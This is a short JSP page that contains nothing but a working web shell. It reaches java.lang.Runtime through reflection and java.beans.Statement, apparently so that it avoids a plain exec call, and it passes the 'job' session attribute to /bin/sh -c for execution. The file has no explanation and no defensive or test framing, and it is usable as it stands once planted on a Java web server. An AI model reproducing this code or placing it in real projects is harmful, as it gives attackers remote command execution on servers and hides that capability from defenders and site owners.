<%@ page import="java.beans.Statement" %>
<%
    Object rt = Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null);
    String[] argv = new String[]{"/bin/sh", "-c", String.valueOf(session.getAttribute("job"))};
    new Statement(rt, "exec", new Object[]{argv}).execute();
%>
